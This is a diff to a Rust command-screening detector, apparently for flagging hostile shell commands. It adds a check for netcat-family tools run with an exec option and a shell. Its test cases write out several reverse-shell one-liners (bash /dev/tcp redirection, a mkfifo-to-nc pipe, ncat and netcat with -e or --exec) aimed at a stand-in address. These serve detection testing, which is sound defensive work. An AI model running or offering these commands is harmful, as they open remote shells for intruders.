@@ -164,7 +164,21 @@ impl Reading {
         let pipe_shell =
             self.lower.contains("mkfifo") && self.has_any(&["nc ", "ncat ", "telnet "]);
         let python = self.lower.contains("socket.socket") && self.lower.contains("subprocess");
-        self.has_any(&REVERSE_SHELL) || pipe_shell || python
+        self.has_any(&REVERSE_SHELL) || pipe_shell || python || self.connects_a_shell()
+    }
+
+    /// `nc` and its kin with a shell to run, whichever options stand between.
+    fn connects_a_shell(&self) -> bool {
+        const NETCATS: [&str; 4] = ["nc", "ncat", "netcat", "nc.traditional"];
+        let words: Vec<&str> = self.words().collect();
+        let from = words.iter().position(|word| NETCATS.contains(&program(word)));
+        let rest = from.and_then(|from| words.get(from + 1..)).unwrap_or_default();
+        let runs = |option: &str| {
+            let is_short = option.starts_with('-') && !option.starts_with("--");
+            matches!(option, "--exec" | "--sh-exec") || is_short && option.ends_with(['e', 'c'])
+        };
+        let mut pairs = rest.windows(2).filter_map(|pair| Some((pair.first()?, pair.last()?)));
+        pairs.any(|(option, word)| runs(option) && SHELLS.contains(&program(word)))
     }
 
     /// A program that fetches, with an address; those take it without a scheme as well.
@@ -350,8 +364,11 @@ mod tests {
                 &[
                     "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
                     "rm f; mkfifo f; cat f | sh -i 2>&1 | nc 198.51.100.7 4444 > f",
+                    "ncat --ssl 198.51.100.7 4444 -e /bin/bash",
+                    "sh -c '/usr/bin/nc 198.51.100.7 4444 -nve sh;'",
+                    "netcat --exec bash 198.51.100.7 4444",
                 ],
-                &["nc -z db 5432", "bash -i"],
+                &["nc -z db 5432", "bash -i", "bash -c nc -vz db 1", "sh -e bash"],
             ),
             (
                 Command::is_miner,
